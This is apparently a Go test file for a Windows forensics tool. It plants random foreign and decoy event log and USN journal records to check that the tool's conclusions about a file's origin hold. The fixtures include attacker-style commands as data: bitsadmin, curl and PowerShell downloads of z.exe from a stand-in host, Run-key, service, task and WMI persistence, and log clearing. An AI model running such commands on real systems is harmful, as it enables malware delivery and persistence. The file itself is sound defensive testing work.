package origin_test

import (
	"maps"
	"math/rand/v2"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/birthmark-dfir/birthmark/evtx"
	"github.com/birthmark-dfir/birthmark/mft"
	"github.com/birthmark-dfir/birthmark/mft/mfttest"
	"github.com/birthmark-dfir/birthmark/mft/usnjrnl"
	"github.com/birthmark-dfir/birthmark/winid"
)

// planter makes records that have to do with a story by accident only.
type planter struct {
	*rand.Rand
	path    string
	created time.Time
}

func pick[T any](p planter, list ...T) T { return list[p.IntN(len(list))] }

// when is a time of the day, more often one near the creation.
func (p planter) when() time.Time {
	if p.IntN(3) == 0 {
		return p.created.Truncate(24 * time.Hour).Add(6*time.Hour + time.Duration(p.IntN(14*3600))*time.Second)
	}
	return p.created.Add(time.Duration(p.IntN(600_000)-300_000) * time.Millisecond)
}

// someone is an account with a session whose LogonId another machine may have given as
// well, and pid and n are a PID and a process whose numbers it may have given.
func (p planter) someone() who {
	a := pick(p, system, network, anna, lee, backup, portal, who{"OTHER", "eve", "S-1-5-21-7-7-7-1001", 0})
	return a.in(pick(p, 0x3e7, 0x3e4, anna.logon, lee.logon, backup.logon, portal.logon, 0x41d20, 0x41d77, 0x41d99, 0x7f3ff, 0x7f777, 0x510986))
}
func (p planter) pid() uint64 {
	return pick(p, uint64(4), 700, 900, 2400, 3100, 4300, 4312, 4380, 5400, 5410, 6000)
}
func (p planter) n() byte { return byte(p.IntN(10)) }

// foreign are the forms of the records of another machine, on which the same path, the
// same LogonIds, PIDs and even GUIDs mean something else.
var foreign = []func(planter) evtx.TypedEvent{
	func(p planter) evtx.TypedEvent {
		return signedOn("00:00:00", p.someone(), pick(p, winid.LogonType(2), 3, 5, 10), pick(p, "203.0.113.99", "-", "::1"), pick(p, "KALI", "-"))
	},
	func(p planter) evtx.TypedEvent { return signedOff("00:00:00", p.someone(), 3) },
	func(p planter) evtx.TypedEvent {
		return ran("00:00:00", p.pid(), p.path, p.path, p.pid(), explorer, p.someone())
	},
	func(p planter) evtx.TypedEvent {
		return ran("00:00:00", p.pid(), system32+"bitsadmin.exe", "bitsadmin /transfer z http://203.0.113.99/z.exe "+p.path, p.pid(), pick(p, explorer, workerW3), p.someone())
	},
	func(p planter) evtx.TypedEvent { return ended("00:00:00", p.pid(), shell, p.someone()) },
	func(p planter) evtx.TypedEvent { return accessed("00:00:00", p.someone(), p.pid(), shell, p.path) },
	func(p planter) evtx.TypedEvent {
		return shared("00:00:00", p.someone(), "203.0.113.99", "C$", `C:\`, p.path[len(`C:\`):])[p.IntN(2)].(evtx.TypedEvent)
	},
	func(p planter) evtx.TypedEvent {
		return spawned("00:00:00", p.n(), pick(p, p.path, system32+"curl.exe"), "curl -o "+p.path+" http://203.0.113.99/z.exe", p.n(), pick(p, explorer, workerW3), p.someone())
	},
	func(p planter) evtx.TypedEvent { return made("00:00:00", p.n(), shell, p.path, p.someone()) },
	func(p planter) evtx.TypedEvent {
		return dialled("00:00:00", p.n(), pick(p, p.path, system32+"curl.exe"), "203.0.113.99", 443)
	},
	func(p planter) evtx.TypedEvent {
		return &evtx.Sysmon2{ProcessGuid: guid(p.n()), ProcessId: 101, Image: shell, TargetFilename: p.path, CreationUtcTime: p.when(), PreviousCreationUtcTime: p.when()}
	},
	func(p planter) evtx.TypedEvent {
		return &evtx.Sysmon13{EventType: "SetValue", ProcessGuid: guid(p.n()), ProcessId: 101, Image: system32 + "reg.exe", TargetObject: `HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Z`, Details: p.path}
	},
	func(p planter) evtx.TypedEvent {
		return &evtx.Sysmon15{ProcessGuid: guid(p.n()), ProcessId: 101, Image: shell, TargetFilename: p.path + ":Zone.Identifier", Contents: "[ZoneTransfer]  ZoneId=3  HostUrl=http://203.0.113.99/z.exe"}
	},
	func(p planter) evtx.TypedEvent {
		return &evtx.Sysmon23{ProcessGuid: guid(p.n()), ProcessId: 101, Image: shell, TargetFilename: p.path}
	},
	func(p planter) evtx.TypedEvent {
		a := p.someone()
		return &evtx.Security4697{SubjectUserSid: a.sid, SubjectUserName: a.name, SubjectDomainName: a.domain, SubjectLogonId: a.logon, ServiceName: "Z", ServiceFileName: p.path, ServiceType: 0x10, ServiceStartType: 2, ServiceAccount: "LocalSystem"}
	},
	func(p planter) evtx.TypedEvent {
		a := p.someone()
		return &evtx.Security4698{SubjectUserSid: a.sid, SubjectUserName: a.name, SubjectDomainName: a.domain, SubjectLogonId: a.logon, TaskName: `\Z`, TaskContent: taskXML(a.String(), p.path, "")}
	},
	func(p planter) evtx.TypedEvent {
		return &evtx.System7045{ServiceName: "Z", ImagePath: p.path, ServiceType: "user mode service", StartType: "auto start", AccountName: "LocalSystem"}
	},
	func(p planter) evtx.TypedEvent {
		return &evtx.BITS59{TransferId: guid(8), JobTitle: "z", JobId: guid(p.n()), URL: "http://203.0.113.99/z.exe", FileLength: 19, BytesTotal: 19}
	},
	func(p planter) evtx.TypedEvent {
		e := &evtx.PowerShell4104{MessageNumber: 1, MessageTotal: 1, ScriptBlockText: "iwr http://203.0.113.99/z.exe -OutFile " + p.path, ScriptBlockId: "6c0f1d5e-0000-4000-8000-000000000009"}
		e.ProcessID, e.UserSID = uint32(p.pid()), p.someone().sid
		return e
	},
	func(p planter) evtx.TypedEvent {
		e := &evtx.PowerShell4103{Payload: "CommandInvocation(Copy-Item): \"Copy-Item\"\r\nParameterBinding(Copy-Item): name=\"Destination\"; value=\"" + p.path + "\"\r\n"}
		e.ProcessID, e.UserSID = uint32(p.pid()), p.someone().sid
		return e
	},
	func(p planter) evtx.TypedEvent {
		return &evtx.BITS3{JobTitle: "z", JobId: guid(p.n()), JobOwner: p.someone().String(), ProcessPath: shell, JobProcessId: uint32(p.pid())}
	},
	func(p planter) evtx.TypedEvent {
		return &evtx.TaskScheduler129{TaskName: `\Z`, Path: p.path, TaskProcessID: uint32(p.pid())}
	},
	func(p planter) evtx.TypedEvent {
		return &evtx.TaskScheduler106{TaskName: pick(p, `\Z`, `\Get`), UserContext: p.someone().String()}
	},
	func(p planter) evtx.TypedEvent {
		return &evtx.WMI5861{Namespace: "root/subscription", Consumer: "Z", PossibleCause: `instance of CommandLineEventConsumer { CommandLineTemplate = "` + strings.ReplaceAll(p.path, `\`, `\\`) + `"; Name = "Z"; };`}
	},
	func(p planter) evtx.TypedEvent {
		return &evtx.Sysmon22{ProcessGuid: guid(p.n()), ProcessId: 100 + uint32(p.n()), QueryName: "evil.example.org", QueryResults: "203.0.113.99;", Image: shell}
	},
	func(p planter) evtx.TypedEvent {
		return &evtx.Security5156{ProcessID: p.pid(), Application: `\device\harddiskvolume3` + p.path[2:], Direction: "%%14593", SourceAddress: "10.9.9.9", SourcePort: "50310", DestAddress: "203.0.113.99", DestPort: "443", Protocol: 6}
	},
	func(p planter) evtx.TypedEvent {
		return &evtx.Defender1116{ProductName: "%%827", ThreatName: "Trojan:Win32/Example", ProcessName: shell, DetectionUser: `OTHER\eve`, Path: "file:_" + p.path}
	},
	func(p planter) evtx.TypedEvent {
		return &evtx.RDP21{User: p.someone().String(), SessionID: 3, Address: "203.0.113.99"}
	},
	func(p planter) evtx.TypedEvent {
		return &evtx.RDP1149{User: "anna", Domain: "CORP", Address: "203.0.113.99"}
	},
	func(p planter) evtx.TypedEvent {
		return &evtx.Security1102{SubjectUserSid: lee.sid, SubjectUserName: lee.name}
	},
	func(p planter) evtx.TypedEvent {
		return &evtx.Security4616{SubjectUserSid: "S-1-5-18", PreviousTime: p.when(), NewTime: p.when()}
	},
	func(p planter) evtx.TypedEvent { return &evtx.System13{StopTime: p.when()} },
	func(p planter) evtx.TypedEvent { return &evtx.System12{StartTime: p.when()} },
	func(p planter) evtx.TypedEvent { return &evtx.Security4608{} },
}

// decoys are the forms of records of the machine itself that have nothing to do with
// the file: they do not name it, or the program only looked at it.
var decoys = []func(planter) evtx.TypedEvent{
	func(p planter) evtx.TypedEvent {
		return ran("00:00:00", 9900+uint64(p.IntN(50)), `C:\Program Files\AV\scan.exe`, "scan.exe /file "+p.path, 900, svchost, system)
	},
	func(p planter) evtx.TypedEvent {
		return ran("00:00:00", 9950+uint64(p.IntN(40)), system32+"curl.exe", "curl https://updates.example.net/list", 3100, explorer, who{"CORP", "helpdesk", domainSID + "1300", 0x99001})
	},
	func(p planter) evtx.TypedEvent {
		return signedOn("00:00:00", who{"CORP", "helpdesk", domainSID + "1300", 0x99100 + uint64(p.IntN(99))}, 3, "10.0.0.9", "ADM09")
	},
	func(p planter) evtx.TypedEvent {
		return &evtx.System7045{ServiceName: "Updater", ImagePath: `"C:\Program Files\AV\update.exe" /not ` + p.path, ServiceType: "user mode service", StartType: "demand start", AccountName: "LocalSystem"}
	},
	func(p planter) evtx.TypedEvent {
		return shared("00:00:00", who{"CORP", "helpdesk", domainSID + "1300", 0x99001}, "10.0.0.9", "C$", `C:\`, "Windows\\Temp\\notes.txt")[1].(evtx.TypedEvent)
	},
	func(p planter) evtx.TypedEvent {
		return &evtx.BITS59{TransferId: guid(80), JobTitle: "Edge Component Updater", JobId: guid(81), URL: "https://edge.example.net/c.crx", FileLength: 4711, BytesTotal: 4711}
	},
	func(p planter) evtx.TypedEvent {
		return dialled("00:00:00", byte(120+p.IntN(20)), svchost, "198.51.100.4", 443)
	},
}

// plant adds one record to a story: to a log of the machine, to the events that it
// collects, or as a log beside its own.
func (p planter) plant(s *story) {
	kinds, computer := foreign, pick(p, "APP07.corp.example", "DC02", "KALI")
	if p.IntN(4) == 0 {
		kinds, computer = decoys, s.computer
	}
	e := kinds[p.IntN(len(kinds))](p)
	e.Sys().TimeCreated, e.Sys().Computer = p.when(), computer
	log := logPath(e)
	if computer != s.computer {
		log = pick(p, log, logFolder+"ForwardedEvents.evtx", logFolder+"Copy of "+log[len(logFolder):])
	}
	if slices.ContainsFunc(s.files, func(f mfttest.File) bool { return f.Path == log }) { // it is damaged
		log = logFolder + "ForwardedEvents.evtx"
	}
	s.logs[log] = append(slices.Clone(s.logs[log]), e)
}

// Whatever records of other machines are planted, and whatever of the machine itself
// that has nothing to do with the file: no firm answer becomes wrong.
func TestPlantedRecords(t *testing.T) {
	seeds := uint64(1000)
	if testing.Short() {
		seeds = 100
	}
	all := stories()
	wrong := 0
	for seed := range seeds {
		r := rand.New(rand.NewPCG(seed, 10))
		s := all[r.IntN(len(all))]
		s.logs = maps.Clone(s.logs)
		p := planter{r, s.path, s.created()}
		for range 1 + r.IntN(3) {
			p.plant(&s)
		}
		for _, w := range s.wrongs(s.report(t)) {
			wrong++
			t.Logf("seed %d, %s: %s", seed, s.name, w)
		}
	}
	noneWrong(t, int(seeds), wrong)
}

// Whatever the journal holds about other files: those that had the entry before, that have
// the name elsewhere, or had it at another time, no firm answer becomes wrong.
func TestPlantedChanges(t *testing.T) {
	seeds := uint64(400)
	if testing.Short() {
		seeds = 40
	}
	all := journals()
	wrong := 0
	for seed := range seeds {
		r := rand.New(rand.NewPCG(seed, 11))
		s := all[r.IntN(len(all))]
		s.journal = slices.Clone(s.journal)
		p := planter{r, s.path, s.created()}
		for range 1 + r.IntN(5) {
			p.plantChange(&s)
		}
		for _, w := range s.wrongs(s.report(t)) {
			wrong++
			t.Logf("seed %d, %s: %s", seed, s.name, w)
		}
	}
	noneWrong(t, int(seeds), wrong)
}

// plantChange adds one record of another file to the journal of a story.
func (p planter) plantChange(s *story) {
	at := p.IntN(len(s.journal))
	c := s.journal[at]
	c.lost = 0
	c.file = mft.Ref{Entry: pick(p, c.file.Entry, subjectEntry, 2500), Seq: uint16(10 + p.IntN(50))}
	c.parent = pick(p, c.parent, cache, downloaded, gone)
	c.name = pick(p, c.name, s.path[strings.LastIndexByte(s.path, '\\')+1:], "other.tmp")
	c.reason = pick(p, usnjrnl.FileCreate, usnjrnl.FileCreate|usnjrnl.Close, usnjrnl.FileDelete|usnjrnl.Close, usnjrnl.RenameOldName, usnjrnl.RenameNewName, usnjrnl.BasicInfoChange, usnjrnl.HardLinkChange)
	s.journal = slices.Insert(s.journal, at, c)
}
